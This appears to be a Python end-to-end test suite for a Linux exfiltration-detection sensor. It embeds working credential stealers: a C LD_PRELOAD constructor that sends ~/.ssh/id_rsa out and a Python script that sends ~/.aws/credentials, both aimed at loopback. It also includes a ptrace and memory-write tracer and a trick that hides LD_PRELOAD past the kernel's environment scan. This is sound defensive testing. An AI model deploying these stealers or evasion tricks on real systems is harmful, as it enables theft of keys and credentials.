#!/usr/bin/env python3
"""End-to-end tests of foreign code and scripts (issue 13): real kernel, real
programs (the genuine /usr/bin/ssh, python3, a shared library built here with
cc), loopback only.

  foreign_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in
suite 'e2e'. They need root and a build with the sensor; otherwise they exit
77 (skip), or 1 when CI=true. See README.md in this directory.

Every scenario runs in a session of its own (h.Shell), and alerts are
filtered to that session, so other sensors' and other tests' activity on the
host cannot confuse a case.
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

SSH = "ssh private keys"
CLOUD = "cloud credentials"

# Dummy secrets: not real keys or credentials.
DUMMY_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
QyNTUxOQAAACBiYXJid2lyZS1mb3JlaWduLXRlc3Qta2V5LW5vdC1hLXJlYWwtb25lAAAA
-----END OPENSSH PRIVATE KEY-----
"""
DUMMY_AWS = """[default]
aws_access_key_id = AKIABARBWIREFOREIGN0
aws_secret_access_key = barbwire/e2e/foreign/dummy/not+a+real+one000
"""

# A library whose constructor runs before the program's main: it reads the
# user's ssh key and sends it to BW_TEST_PORT on 127.0.0.1.
STEAL_C = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void steal(void)
{
    const char *home = getenv("HOME"), *port = getenv("BW_TEST_PORT");
    if (!home || !port)
        return;
    char path[4096], buf[8192];
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", home);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n <= 0)
        return;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)atoi(port));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0 && write(s, buf, (size_t)n) != n)
        fprintf(stderr, "short write\n");
    close(s);
}
"""

# A python script that reads the AWS credentials in $HOME and sends them.
SEND_AWS_PY = """#!{python}
import os, socket
with open(os.path.join(os.environ["HOME"], ".aws", "credentials"), "rb") as f:
    data = f.read()
s = socket.create_connection(("127.0.0.1", int(os.environ["BW_TEST_PORT"])))
s.sendall(data)
s.close()
"""


def which_real(name):
    p = shutil.which(name, path="/usr/bin:/bin")
    if p is None:
        h.skip_or_fail(f"{name} is not installed (these tests run the real {name})")
    return os.path.realpath(p)


def make_home(ws):
    home = ws.path("home")
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    os.makedirs(os.path.join(home, ".aws"), mode=0o700)
    h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
    h.write_file(os.path.join(home, ".aws", "credentials"), DUMMY_AWS, mode=0o600)
    return os.path.realpath(home)


def env_of(home, **extra):
    e = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}
    e.update(extra)
    return e


def ctx(a):
    return f"alert: {json.dumps(a, sort_keys=True)}"


def one_alert(sensor, leader, what):
    alerts = sensor.alerts_in_session(leader)
    check(len(alerts) == 1, f"expected exactly one alert for {what}, got {len(alerts)}:\n"
                            + "\n".join(json.dumps(a, sort_keys=True) for a in alerts)
                            + f"\nsensor stderr:\n{sensor.stderr()}")
    return alerts[0]


def settle(sensor, leader, timeout=h.ALERT_TIMEOUT):
    sensor.wait_for(lambda a: h.in_session(a, leader), timeout)
    time.sleep(1.0)


def session_pids(events, leader):
    """Every pid of `leader`'s session in the trace: the exec'd ones (sid) and their forks."""
    pids = {e["pid"] for e in events if e.get("kind") == "exec" and e.get("sid") == leader} | {leader}
    for e in events:
        if e.get("kind") == "fork" and e.get("pid") in pids:
            pids.add(e.get("child_pid"))
    return pids


class BannerListener(h.DataListener):
    """A loopback TCP listener that greets like an SSH server ("SSH-2.0-..."), keeps
    what the client sends for a second, then closes: enough for the real ssh to
    connect, load its key and send its own banner, then give up."""

    def _take(self):
        c, peer = self.sock.accept()
        buf = self.streams.setdefault(peer[1], bytearray())

        def serve():
            try:
                c.sendall(b"SSH-2.0-barbwire_e2e\r\n")
                c.settimeout(0.2)
                end = time.monotonic() + 1.0
                while time.monotonic() < end:
                    try:
                        chunk = c.recv(65536)
                    except socket.timeout:
                        continue
                    if not chunk:
                        break
                    buf.extend(chunk)
            except OSError:
                pass
            finally:
                c.close()
        t = threading.Thread(target=serve, daemon=True)
        self._conns.append((c, t))
        t.start()
        return peer


# --------------------------------------------------------------------------- a: LD_PRELOAD

def case_preload_trusted_ssh():
    """a) The genuine /usr/bin/ssh (trusted for ssh private keys by the built-in rules)
    run with LD_PRELOAD of a library whose constructor reads ~/.ssh/id_rsa and sends it
    to a loopback listener: one alert, naming the key, the destination, and that
    LD_PRELOAD withheld trust (process.foreign and a score part). In the same run the
    same ssh without LD_PRELOAD loads that key and sends its banner to an SSH-like
    listener: quiet, with proof from the trace (its open of the key) and the listener
    (its bytes)."""
    h.require_root_and_sensor()
    ssh, cc = which_real("ssh"), shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        h.skip_or_fail("no C compiler (cc) to build the preloaded library")
    check(ssh == "/usr/bin/ssh", f"ssh is {ssh}, not the /usr/bin/ssh the built-in rules trust")
    st = os.stat(ssh)
    check(st.st_uid == 0 and st.st_mode & 0o022 == 0, f"{ssh} is not root-owned and write-protected")
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        src = ws.path("steal.c")
        h.write_file(src, STEAL_C)
        lib = ws.path("libsteal.so")
        subprocess.run([cc, "-shared", "-fPIC", "-O1", "-o", lib, src], check=True)
        paths.update(home=home, lib=lib, key=os.path.join(home, ".ssh", "id_rsa"))
        return None  # the built-in rules

    with h.scenario(BW, prepare, record=True, listener=None) as (ws, sensor, _):
        home, lib, key = paths["home"], paths["lib"], paths["key"]
        stolen = h.DataListener("127.0.0.1")
        banner = BannerListener("127.0.0.1")
        ws.defer(stolen.close)
        ws.defer(banner.close)
        # benign first: the real ssh loads its key and talks to its "server"
        ok_sh = h.Shell(f'{ssh} -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no '
                        f'-o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i "$HOME/.ssh/id_rsa" '
                        f'-p {banner.port} 127.0.0.1 true || true', env=env_of(home))
        ok_sh.wait()
        check(banner.received(b"SSH-2.0-"), f"the ssh-like listener got no ssh banner: {banner.streams}")
        # the attack: the same ssh, a preloaded library
        bad_sh = h.Shell(f'LD_PRELOAD={lib} {ssh} -V',
                         env=env_of(home, BW_TEST_PORT=str(stolen.port)))
        bad_sh.wait()
        check(stolen.received(b"BEGIN OPENSSH PRIVATE KEY"),
              f"the listener did not receive the key from the preloaded library: {stolen.streams}")
        settle(sensor, bad_sh.leader)
        time.sleep(1.0)
        sensor.stop_cleanly()
        ev = h.read_trace(ws.trace)

        # benign: seen (ssh's exec, its open of the key), quiet
        ok_pids = session_pids(ev, ok_sh.leader)
        ssh_execs = [e for e in ev if e.get("kind") == "exec" and e.get("pid") in ok_pids and e.get("exe") == ssh]
        check(ssh_execs, f"the trace has no exec of {ssh} in the benign session {ok_sh.leader}")
        check(not ssh_execs[0].get("foreign"), f"the benign ssh has foreign code: {ssh_execs[0]}")
        opened = [e for e in ev if e.get("kind") == "open" and e.get("pid") in ok_pids and e.get("path") == key]
        check(opened, f"the trace shows no open of {key} by the benign ssh (pids {sorted(ok_pids)})")
        check(sensor.alerts_in_session(ok_sh.leader) == [],
              f"the benign ssh alerted: {sensor.alerts_in_session(ok_sh.leader)}")

        # attack: one alert, LD_PRELOAD named as the reason trust did not apply
        bad_pids = session_pids(ev, bad_sh.leader)
        bad_execs = [e for e in ev if e.get("kind") == "exec" and e.get("pid") in bad_pids and e.get("exe") == ssh]
        check(bad_execs and "preload_env" in (bad_execs[0].get("foreign") or []),
              f"the trace's exec of the preloaded ssh has no preload_env: {bad_execs}")
        a = one_alert(sensor, bad_sh.leader, "ssh with LD_PRELOAD")
        p, f, d = a.get("process") or {}, a.get("file") or {}, a.get("destination") or {}
        check(p.get("exe") == ssh, f"process.exe {p.get('exe')!r} != {ssh}; {ctx(a)}")
        check(f.get("path") == key and f.get("category") == SSH, f"file {f} is not {key} ({SSH}); {ctx(a)}")
        check(d.get("addr") == "127.0.0.1" and d.get("port") == stolen.port,
              f"destination {d} is not 127.0.0.1:{stolen.port}; {ctx(a)}")
        check("LD_PRELOAD at exec" in (p.get("foreign") or []), f"process.foreign lacks LD_PRELOAD; {ctx(a)}")
        parts = [x.get("reason", "") for x in a.get("score_breakdown") or []]
        check(any("LD_PRELOAD" in r and "no trust" in r for r in parts),
              f"no score part says LD_PRELOAD withheld trust: {parts}; {ctx(a)}")
        out = subprocess.run([BW, "replay", ws.trace], capture_output=True, text=True)
        check("foreign  : LD_PRELOAD at exec: not trusted" in out.stdout,
              f"the replayed text box has no foreign row: {out.stdout[-3000:]} {out.stderr}")
        print(f"preloaded ssh: score={a.get('score')} breakdown={parts}")


def case_preload_past_env_scan():
    """a2) The attacker who read the kernel's scan bound: the same preloaded library,
    with LD_PRELOAD placed after 20 KiB of other environment (the kernel scans about
    16 KiB). The preload itself goes unseen, but the exec record says the environment
    was not scanned to its end, so the genuine ssh is not trusted: one alert, whose
    process.foreign says why. Fails on a sensor that ignores BW_EXECF_ENV_LONG (the
    trusted ssh would be quiet)."""
    h.require_root_and_sensor()
    ssh, cc = which_real("ssh"), shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        h.skip_or_fail("no C compiler (cc) to build the preloaded library")
    check(ssh == "/usr/bin/ssh", f"ssh is {ssh}, not the /usr/bin/ssh the built-in rules trust")
    envtool = which_real("env")
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        src = ws.path("steal.c")
        h.write_file(src, STEAL_C)
        lib = ws.path("libsteal.so")
        subprocess.run([cc, "-shared", "-fPIC", "-O1", "-o", lib, src], check=True)
        paths.update(home=home, lib=lib, key=os.path.join(home, ".ssh", "id_rsa"))
        return None  # the built-in rules

    with h.scenario(BW, prepare, record=True, listener=None) as (ws, sensor, _):
        home, lib, key = paths["home"], paths["lib"], paths["key"]
        stolen = h.DataListener("127.0.0.1")
        ws.defer(stolen.close)
        pad = "x" * 20000
        # env(1) puts the variables in the order given: LD_PRELOAD lands past the scan
        bad_sh = h.Shell(f'{envtool} -i HOME="$HOME" BW_TEST_PORT="$BW_TEST_PORT" PATH=/usr/bin:/bin '
                         f'PAD={pad} LD_PRELOAD={lib} {ssh} -V',
                         env=env_of(home, BW_TEST_PORT=str(stolen.port)))
        bad_sh.wait()
        check(stolen.received(b"BEGIN OPENSSH PRIVATE KEY"),
              f"the listener did not receive the key from the preloaded library: {stolen.streams}")
        settle(sensor, bad_sh.leader)
        sensor.stop_cleanly()
        ev = h.read_trace(ws.trace)

        bad_pids = session_pids(ev, bad_sh.leader)
        bad_execs = [e for e in ev if e.get("kind") == "exec" and e.get("pid") in bad_pids and e.get("exe") == ssh]
        check(bad_execs, f"the trace has no exec of {ssh} in session {bad_sh.leader}")
        marks = bad_execs[0].get("foreign") or []
        check("env_unscanned" in marks, f"the exec of ssh past the scan is not env_unscanned: {bad_execs[0]}")
        check("preload_env" not in marks,
              f"the preload past the bound was seen after all (the test no longer tests the bound): {marks}")
        a = one_alert(sensor, bad_sh.leader, "ssh with LD_PRELOAD past the environment scan")
        p, f, d = a.get("process") or {}, a.get("file") or {}, a.get("destination") or {}
        check(p.get("exe") == ssh, f"process.exe {p.get('exe')!r} != {ssh}; {ctx(a)}")
        check(f.get("path") == key and f.get("category") == SSH, f"file {f} is not {key} ({SSH}); {ctx(a)}")
        check(d.get("addr") == "127.0.0.1" and d.get("port") == stolen.port,
              f"destination {d} is not 127.0.0.1:{stolen.port}; {ctx(a)}")
        check(any("environment past the exec scan" in x for x in (p.get("foreign") or [])),
              f"process.foreign does not say the environment was not scanned; {ctx(a)}")
        print(f"ssh past the scan: score={a.get('score')} foreign={p.get('foreign')}")


# --------------------------------------------------------------------------- b: scripts

def script_rules(python, trusted_script):
    """The built-in rules, plus trust for `trusted_script` AND for the python
    interpreter itself for cloud credentials: a script under python must get neither
    unless it is the trusted script. The script is pinned by its sha256: no package
    ships it, and trust by path alone needs package provenance (docs/rules.md,
    "Trust by path")."""
    rules = h.builtin_rules_json(ROOT)
    trusted = rules.setdefault("trusted_binaries", [])
    trusted.append({"exe": trusted_script, "sha256": h.sha256_of(trusted_script), "categories": [CLOUD]})
    mine = [t for t in trusted if t.get("exe") == python and "sha256" not in t]
    if mine:  # the built-in rules trust python for shell history: one entry per executable
        mine[0].setdefault("categories", []).append(CLOUD)
    else:
        trusted.append({"exe": python, "categories": [CLOUD]})
    return json.dumps(rules)


def case_script_identity():
    """b) A #! python script that reads ~/.aws/credentials and sends them to 127.0.0.1.
    The rules trust one root-owned script (0755, in a root-owned directory) and the
    python interpreter itself for cloud credentials.
      A. the trusted script: quiet, with proof (the trace's script line names it with
         its sha256, its open of the credentials; the listener got the bytes);
      B. the same bytes as an attacker's script (owned by nobody, in a directory of
         its own): one alert, showing process.exe (python) and process.script (the
         attacker's path and sha256) and the text box's script row;
      C. the attacker's script exec'd through a symlink named like the trusted one:
         still the attacker's file (the kernel-resolved path and inode), one alert."""
    h.require_root_and_sensor()
    python = which_real("python3")
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        trusted_dir = ws.path("opt")
        os.makedirs(trusted_dir, mode=0o755)
        trusted = os.path.join(trusted_dir, "cloud-sync.py")
        h.write_file(trusted, SEND_AWS_PY.format(python=python), mode=0o755)
        os.chown(trusted, 0, 0)
        attacker_dir = ws.path("tmp-attacker")
        os.makedirs(attacker_dir, mode=0o777)
        os.chmod(attacker_dir, 0o1777)
        evil = os.path.join(attacker_dir, "sync.py")
        h.write_file(evil, SEND_AWS_PY.format(python=python), mode=0o755)
        os.chown(evil, 65534, 65534)
        link_dir = ws.path("links")
        os.makedirs(link_dir)
        link = os.path.join(link_dir, "cloud-sync.py")
        os.symlink(evil, link)
        paths.update(home=home, trusted=os.path.realpath(trusted), evil=os.path.realpath(evil), link=link)
        return script_rules(python, os.path.realpath(trusted))

    with h.scenario(BW, prepare, record=True, listener=None) as (ws, sensor, _):
        home = paths["home"]
        lst = h.DataListener("127.0.0.1")
        ws.defer(lst.close)
        env = env_of(home, BW_TEST_PORT=str(lst.port))
        a_sh = h.Shell(f'"{paths["trusted"]}"', env=env)
        a_sh.wait()
        check(lst.received(b"AKIABARBWIREFOREIGN0"), f"the trusted script's bytes did not arrive: {lst.streams}")
        b_sh = h.Shell(f'"{paths["evil"]}"', env=env)
        b_sh.wait()
        c_sh = h.Shell(f'"{paths["link"]}"', env=env)
        c_sh.wait()
        settle(sensor, b_sh.leader)
        settle(sensor, c_sh.leader)
        time.sleep(1.0)
        sensor.stop_cleanly()
        ev = h.read_trace(ws.trace)
        creds = os.path.join(home, ".aws", "credentials")

        def script_line(leader):
            pids = session_pids(ev, leader)
            s = [e for e in ev if e.get("kind") == "script" and e.get("pid") in pids]
            check(len(s) == 1, f"session {leader}: expected one script line, got {s}")
            return s[0], pids

        # A: trusted script, quiet, and seen
        s, pids = script_line(a_sh.leader)
        check(s.get("path") == paths["trusted"] and s.get("sha256") == h.sha256_of(paths["trusted"])
              and s.get("uid") == 0, f"session A: script line {s} is not the trusted script")
        check(any(e.get("kind") == "open" and e.get("pid") in pids and e.get("path") == creds for e in ev),
              f"session A: no open of {creds} by the trusted script in the trace")
        check(sensor.alerts_in_session(a_sh.leader) == [],
              f"session A: the trusted script alerted: {sensor.alerts_in_session(a_sh.leader)}")

        # B: the attacker's script under the same (trusted!) interpreter
        s, _ = script_line(b_sh.leader)
        check(s.get("path") == paths["evil"] and s.get("uid") == 65534, f"session B: script line {s}")
        b = one_alert(sensor, b_sh.leader, "the attacker's script")
        p = b.get("process") or {}
        sc = p.get("script") or {}
        check(p.get("exe") == python, f"session B: process.exe {p.get('exe')!r} != {python}; {ctx(b)}")
        check(sc.get("path") == paths["evil"] and sc.get("sha256") == h.sha256_of(paths["evil"])
              and sc.get("uid") == 65534, f"session B: process.script {sc}; {ctx(b)}")
        check((b.get("file") or {}).get("path") == creds and (b.get("file") or {}).get("category") == CLOUD,
              f"session B: file {(b.get('file'))}; {ctx(b)}")
        check((b.get("destination") or {}).get("port") == lst.port, f"session B: destination; {ctx(b)}")
        out = subprocess.run([BW, "replay", ws.trace, "--config", ws.path("barbwire-config.yml")],
                             capture_output=True, text=True)
        check(f"script   : {paths['evil']}" in out.stdout,
              f"the replayed text box has no script row for {paths['evil']}: {out.stdout[-3000:]} {out.stderr}")

        # C: a symlink named like the trusted script, to the attacker's file
        s, _ = script_line(c_sh.leader)
        check(s.get("path") == paths["evil"], f"session C: the script line names {s.get('path')!r}, "
                                             f"not the file read ({paths['evil']})")
        c = one_alert(sensor, c_sh.leader, "the attacker's script through a symlink")
        check(((c.get("process") or {}).get("script") or {}).get("path") == paths["evil"],
              f"session C: process.script; {ctx(c)}")


# --------------------------------------------------------------------------- c: ptrace and memory writes

TRACER_PY = r"""
import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_DETACH = 0, 16, 17

class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

# 1. attach to a running child, write one byte of its stack back into it
victim = os.fork()
if victim == 0:
    os.execv("/usr/bin/sleep", ["sleep", "20"])
time.sleep(0.3)
if libc.ptrace(PTRACE_ATTACH, victim, None, None) != 0:
    sys.exit("attach failed: %d" % ctypes.get_errno())
os.waitpid(victim, 0)
libc.ptrace(PTRACE_DETACH, victim, None, None)
stack = [l for l in open("/proc/%d/maps" % victim) if l.rstrip().endswith("[stack]")][0]
addr = int(stack.split("-")[1].split()[0], 16) - 64
buf = ctypes.create_string_buffer(1)
local, remote = iovec(ctypes.addressof(buf), 1), iovec(addr, 1)
if libc.process_vm_readv(victim, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != 1:
    sys.exit("process_vm_readv failed: %d" % ctypes.get_errno())
if libc.process_vm_writev(victim, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != 1:
    sys.exit("process_vm_writev failed: %d" % ctypes.get_errno())
fd = os.open("/proc/%d/mem" % victim, os.O_RDWR)
os.close(fd)
os.kill(victim, signal.SIGKILL)
os.waitpid(victim, 0)

# 2. a child asks to be traced, then execs: its new image is traced
child = os.fork()
if child == 0:
    libc.ptrace(PTRACE_TRACEME, 0, None, None)
    os.execv("/usr/bin/true", ["true"])
os.waitpid(child, 0)  # stopped at the exec
libc.ptrace(PTRACE_DETACH, child, None, None)
os.waitpid(child, 0)
print(victim, child)
"""


def case_ptrace_events():
    """c) A process attaches to a running program (PTRACE_ATTACH), writes into its memory
    (process_vm_writev), opens its /proc/PID/mem for writing, and a child asks to be
    traced (PTRACE_TRACEME) and execs /usr/bin/true. The recorded trace has a foreign line
    for each, naming the right target, and the traced exec carries foreign ["ptraced"]."""
    h.require_root_and_sensor()
    python = which_real("python3")
    with h.scenario(BW, None, record=True, listener=None) as (ws, sensor, _):
        script = ws.path("tracer.py")
        h.write_file(script, TRACER_PY)
        sh = h.Shell(f'{python} "{script}"')
        out, _ = sh.wait()
        victim, child = (int(x) for x in out.split())
        time.sleep(1.5)
        sensor.stop_cleanly()
        ev = h.read_trace(ws.trace)
        pids = session_pids(ev, sh.leader)
        foreign = [e for e in ev if e.get("kind") == "foreign" and e.get("pid") in pids]
        got = {(e.get("target"), tuple(e.get("bits") or [])) for e in foreign}
        want = {(victim, ("ptraced",)), (victim, ("mem_written",)), (child, ("ptraced",))}
        check(want <= got, f"foreign lines {sorted(got)} lack {sorted(want - got)}; all: {foreign}")
        written = [e for e in foreign if e.get("target") == victim and e.get("bits") == ["mem_written"]]
        check(len(written) >= 2, f"expected a foreign line for process_vm_writev and one for /proc/PID/mem, "
                                 f"got {written}")
        execs = [e for e in ev if e.get("kind") == "exec" and e.get("pid") == child]
        check(execs and "ptraced" in (execs[-1].get("foreign") or []),
              f"the traced child's exec has no foreign ptraced: {execs}")


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "foreign_test"))
